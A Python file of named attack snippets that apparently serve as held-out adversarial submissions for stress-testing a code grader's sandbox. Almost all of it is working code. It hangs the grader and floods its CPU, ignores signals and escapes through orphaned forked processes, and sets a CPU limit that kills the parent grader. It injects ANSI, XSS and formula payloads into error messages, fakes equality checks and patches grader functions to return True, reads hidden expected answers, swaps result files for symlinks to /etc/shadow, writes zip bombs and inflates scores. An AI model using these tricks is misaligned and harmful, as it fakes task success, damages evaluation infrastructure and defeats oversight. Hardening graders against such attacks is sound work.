A = {}
A["f1_hang_import"] = r'''
while True:
    pass
'''
A["f2_busy_threads"] = r'''
import hashlib
_START = time.time()
def spin():
    data = b"x" * (16 << 20)
    while time.time() - _START < 60:   # bounded: a minute of every core
        hashlib.sha256(data).digest()
def PART_HOOK(part):
    if part in ("scaled", "variance"):
        for _ in range(4):
            threading.Thread(target=spin, daemon=True).start()
        win("busy-threads-started-minor")
'''
A["f3_linger"] = r'''
import signal
def linger():
    end = time.time() + 600            # bounded: ten minutes
    n = 0
    while time.time() < end:
        n += 1
        if n % 2000000 == 0:
            _evidence("linger-alive", time.time())
try:
    libc.prctl(15, ctypes.c_char_p(b"heldout-linger"), 0, 0, 0)
except Exception: pass
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    try: signal.signal(s, signal.SIG_IGN)
    except Exception: pass
def PART_HOOK(part):
    if part == "softmax" and not globals().get("_started"):
        globals()["_started"] = True
        threading.Thread(target=linger, daemon=False).start()
        import atexit
        atexit.register(lambda: time.sleep(120))
'''
A["f4_fork_escape"] = r'''
import subprocess
def orphan_body(tag):
    try:
        os.setsid()
    except Exception: pass
    try: libc.prctl(15, ctypes.c_char_p(b"heldout-orphan"), 0, 0, 0)
    except Exception: pass
    _evidence("orphan-" + tag, os.getpid())
    end = time.time() + 1200          # bounded: 20 minutes, the runner kills it once seen
    while time.time() < end:
        time.sleep(1)
    os._exit(0)

def attack():
    try:
        pid = os.fork()
        if pid == 0:
            if os.fork() == 0: orphan_body("double-fork")
            os._exit(0)
        win("os-fork", pid)
    except Exception as e: info("fork %r" % (e,))
    for nr, args, tag in ((57, (), "raw-fork"), (56, (17, 0, 0, 0, 0), "raw-clone")):
        r, e = sc(nr, *args)
        if r == 0: orphan_body(tag)
        if r > 0: win(tag, r)
        else: info("%s errno %s" % (tag, e))
    cl = ctypes.create_string_buffer(88); struct.pack_into("Q", cl, 32, 17)
    r, e = sc(435, cl, 88)
    if r == 0: orphan_body("clone3")
    if r > 0: win("clone3", r)
    else: info("clone3 errno %s" % e)
    try:
        p = subprocess.Popen(["/bin/sh", "-c", "exec -a heldout-orphan-sh sleep 1200"], start_new_session=True)
        win("subprocess", p.pid)
    except Exception as e: info("popen %r" % (e,))
    try:
        pid = os.posix_spawn("/bin/sleep", ["heldout-orphan-spawn", "1200"], {})
        win("posix_spawn", pid)
    except Exception as e: info("spawn %r" % (e,))
guarded(attack)
'''
A["f5_ignore_signals"] = r'''
import signal
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM, signal.SIGUSR1, signal.SIGUSR2):
    try: signal.signal(s, signal.SIG_IGN)
    except Exception: pass
r, e = sc(112)
if r > 0: win("setsid")
else: info("setsid errno %s" % e)
r, e = sc(109, 0, 0)
if r == 0: win("setpgid")
try: libc.prctl(15, ctypes.c_char_p(b"heldout-hang"), 0, 0, 0)
except Exception: pass
def PART_HOOK(part):
    if part == "scaled":
        while True:
            pass
'''
A["y_f6_cpu_parent"] = r'''
def attack():
    targets = {os.getppid()}
    try: targets.add(os.getpgid(0))
    except Exception: pass
    try: targets.add(os.getsid(0))
    except Exception: pass
    targets -= {0, 1, os.getpid()}
    for pid in targets:
        new = (ctypes.c_ulong * 2)(1, 1)
        r, e = sc(302, pid, 0, new, 0)        # RLIMIT_CPU 1 s on the grader: it dies
        if r == 0: win("prlimit-cpu1-%d" % pid)
        else: info("cpu1 %d errno %s" % (pid, e))
guarded(attack)
'''
# ---- h: data from the child ----
A["h1_exc_payload"] = r'''
PAYLOADS = {
  "scaled": "\x1b]0;pwned\x07\x1b[2J\x1b[1;31mHELDOUT-H1-ANSI\x1b[0m",
  "bilinear": "\nScore: 10 / 10\n**Score: 10 / 10**\n<script>alert('heldout-h1')</script><img src=x onerror=alert(1)>",
  "variance": "HELDOUT-H1-CTRL \x00 nul \x0b vt \x0c ff \x1b esc \x7f del \u2028 ls ]]> </failure><injected/>",
  "asym": "=HYPERLINK(\"http://x\",\"y\")\n+cmd|' /C calc'!A0\n@SUM(1+1)\n-2+3",
  "softmax": "\u202eHELDOUT-H1-BIDI\u202c [click](javascript:alert(1)) ![x](http://127.0.0.1:47931/h1.png)",
}
def PART_HOOK(part):
    raise RuntimeError(PAYLOADS[part])
'''
A["h2_huge_exc"] = r'''
def PART_HOOK(part):
    if part == "scaled":
        sys.stdout.write("HELDOUT-H2-STDOUT" + "B" * (20 << 20)); sys.stdout.flush()
    raise RuntimeError("HELDOUT-H2-HUGE" + "A" * (10 << 20))
'''
A["h3_odd_dtypes"] = r'''
import numpy as np
ODD = {}
def PART_HOOK(part):
    ODD["part"] = part
'''
A["h4_liar"] = r'''
import numpy as np
class Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        plain = [np.asarray(i) if not isinstance(i, Liar) else i.view(np.ndarray) for i in inputs]
        try: shape = np.broadcast_shapes(*[p.shape for p in plain])
        except Exception: shape = plain[0].shape
        if ufunc in (np.subtract, np.absolute, np.square):
            return np.zeros(shape)
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isclose, np.isfinite, np.logical_and):
            return np.ones(shape, bool)
        if ufunc in (np.not_equal, np.less, np.greater, np.isnan, np.isinf):
            return np.zeros(shape, bool)
        return getattr(ufunc, method)(*plain, **kw)
    def __array_function__(self, func, types, args, kwargs):
        name = func.__name__
        if name in ("allclose", "array_equal", "array_equiv"): return True
        if name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal"): return None
        if name == "isclose": return np.ones(np.shape(args[0]), bool)
        args = [a.view(np.ndarray) if isinstance(a, Liar) else a for a in args]
        return func(*args, **kwargs)
class LiarFloat(float):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __sub__(self, o): return 0.0
    def __rsub__(self, o): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, o): return True
    def __le__(self, o): return True
    def __gt__(self, o): return False
    def __ge__(self, o): return True
    def __hash__(self): return 0
def liar(shape): return np.zeros(shape).view(Liar)
'''
A["h5_np_patch"] = r'''
import numpy as np, math, gc
def attack():
    true = lambda *a, **k: True
    none = lambda *a, **k: None
    np.allclose = true; np.array_equal = true; np.array_equiv = true
    np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)
    for n in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal", "assert_equal"):
        setattr(np.testing, n, none)
    math.isclose = true
    patched = []
    for name, mod in list(sys.modules.items()):
        if not mod or not (name.split(".")[0] in ("grader", "attnkit", "solutions") or "grader" in name): continue
        win("sees-grader-module-" + name)
        for attr in list(vars(mod)):
            low = attr.lower()
            f = getattr(mod, attr, None)
            if callable(f) and not isinstance(f, type) and any(k in low for k in ("close", "compare", "equal", "match", "check", "diff", "grade", "score")):
                try: setattr(mod, attr, true); patched.append(name + "." + attr)
                except Exception: pass
    if patched: win("patched-grader-functions", patched[:10])
    for o in gc.get_objects():          # functions already bound elsewhere: rewrite their code
        try:
            if type(o).__name__ == "function" and o.__module__ and "grader" in o.__module__ and \
               any(k in o.__name__.lower() for k in ("close", "compare", "equal")):
                o.__code__ = true.__code__ if o.__code__.co_argcount == 0 else (lambda *a, **k: True).__code__
                win("rewrote-code-" + o.__name__)
        except Exception: pass
guarded(attack)
'''
A["h6_read_expected"] = r'''
import numpy as np, gc, glob
FOUND = {}
def attack():
    seen = []
    for root, dirs, files in os.walk("."):
        for f in files: seen.append(os.path.join(root, f))
    try:
        for fd in os.listdir("/proc/self/fd"):
            try: seen.append(os.readlink("/proc/self/fd/" + fd))
            except Exception: pass
    except Exception: pass
    info("files %r" % seen[:30])
    for p in seen:
        if p.endswith((".npz", ".npy", ".json", ".pkl")) and os.path.exists(p):
            try:
                if p.endswith(".npz"):
                    z = np.load(p, allow_pickle=False); FOUND[p] = {k: z[k] for k in z.files}
                    win("read-case-file", "%s %s" % (p, list(z.files)[:20]))
                elif p.endswith(".json"):
                    FOUND[p] = open(p).read(); win("read-json", p)
            except Exception as e: info("load %s %r" % (p, e))
    hits = 0
    for o in gc.get_objects():
        try:
            if isinstance(o, dict) and any(isinstance(k, str) and ("expect" in k.lower() or "want" in k.lower()) for k in o):
                hits += 1; FOUND.setdefault("gc%d" % hits, o)
        except Exception: pass
    if hits: win("gc-expected-dicts", hits)
guarded(attack)
def lookup(arg):
    a = np.asarray(arg)
    for v in FOUND.values():
        if not isinstance(v, dict): continue
        arrays = {k: np.asarray(x) for k, x in v.items() if hasattr(x, "shape")}
        for k, x in arrays.items():
            if x.shape == a.shape and np.array_equal(x, a):
                for k2, y in arrays.items():
                    if "expect" in str(k2).lower() or "want" in str(k2).lower() or "out" in str(k2).lower():
                        win("returned-expected"); return y
    return None
'''
A["h7_result_tamper"] = r'''
import glob
def attack():
    victims = ["/tmp/heldout-canary/victim-file", "/etc/shadow"]
    names = ["result.json", "results.json", "result.npz", "results.npz", "out.json", "output.json", "result.pkl",
             "feedback.md", "grades.csv", "report.html", "score.json", "status.json"]
    for i, n in enumerate(names):
        try:
            if os.path.lexists(n): os.unlink(n)
            os.symlink(victims[i % 2], n)
        except Exception as e: info("symlink %s %r" % (n, e))
    made = 0
    for root, dirs, files in os.walk("."):
        for f in files:
            p = os.path.join(root, f)
            if f in names or f.endswith(".py"): continue
            try:
                tmp = p + ".heldout"
                os.symlink(victims[0], tmp); os.replace(tmp, p); made += 1
            except Exception as e: info("replace %s %r" % (p, e))
    if made: win("replaced-files-by-symlink-minor", made)
    for n in ("result.fifo", "results.fifo", "result.txt"):
        try: os.mkfifo(n); win("mkfifo-minor")
        except Exception: pass
    try:
        with open("core", "wb") as f: f.truncate(100 << 30)   # 100 GB sparse
        win("sparse-100G-minor")
    except Exception as e: info("sparse %r" % (e,))
    try:
        os.symlink("/", "rootlink"); os.symlink("..", "up")
    except Exception: pass
guarded(attack)
def PART_HOOK(part):
    guarded(attack)
'''
A["h8_zipbomb_patch"] = r'''
import numpy as np, json, pickle, zipfile, zlib
def bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as z:
        with z.open("arr_0.npy", "w", force_zip64=True) as m:
            hdr = b"\x93NUMPY\x01\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (134217728,), }".ljust(118) + b"\n"
            m.write(hdr); zero = b"\0" * (16 << 20)
            for _ in range(64): m.write(zero)          # 1 GiB of zeros, about 1 MB on disk
def huge_npy(path):
    with open(path, "wb") as f:
        h = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(118) + b"\n"
        f.write(b"\x93NUMPY\x01\x00" + h + b"\0" * 64)
def inflate(o):
    if isinstance(o, dict):
        out = {}
        for k, v in o.items():
            lk = str(k).lower()
            if any(s in lk for s in ("score", "points", "earned")) and isinstance(v, (int, float)) and not isinstance(v, bool): v = 10
            elif any(s in lk for s in ("passed", "ok", "success", "correct")) and isinstance(v, bool): v = True
            elif lk in ("status", "outcome", "verdict") and isinstance(v, str): v = "passed"
            else: v = inflate(v)
            out[k] = v
        return out
    if isinstance(o, (list, tuple)): return type(o)(inflate(x) for x in o)
    return o
def attack():
    _save, _savez, _savezc = np.save, np.savez, np.savez_compressed
    def save(file, *a, **k):
        win("np.save-intercepted"); return huge_npy(file if isinstance(file, str) else getattr(file, "name", "x.npy"))
    def savez(file, *a, **k):
        win("np.savez-intercepted"); return bomb(file)
    np.save = save; np.savez = savez; np.savez_compressed = savez
    _dumps, _dump, _pdumps, _pdump = json.dumps, json.dump, pickle.dumps, pickle.dump
    json.dumps = lambda o, *a, **k: _dumps(inflate(o), *a, **k)
    json.dump = lambda o, f, *a, **k: _dump(inflate(o), f, *a, **k)
    pickle.dumps = lambda o, *a, **k: _pdumps(inflate(o), *a, **k)
    pickle.dump = lambda o, f, *a, **k: _pdump(inflate(o), f, *a, **k)
    for n in ("result.npz", "results.npz", "bomb.npz"): 
        try: bomb(n)
        except Exception as e: info("bomb %r" % (e,))
    for n in ("result.npy", "expected.npy", "output.npy"):
        try: huge_npy(n)
        except Exception: pass
    # multiprocessing connections carry pickles: inflate what we send too
    try:
        import multiprocessing.connection as mc
        _send = mc.Connection.send
        mc.Connection.send = lambda self, obj: _send(self, inflate(obj))
        win("patched-mp-send-minor")
    except Exception as e: info("mp %r" % (e,))
guarded(attack)
'''
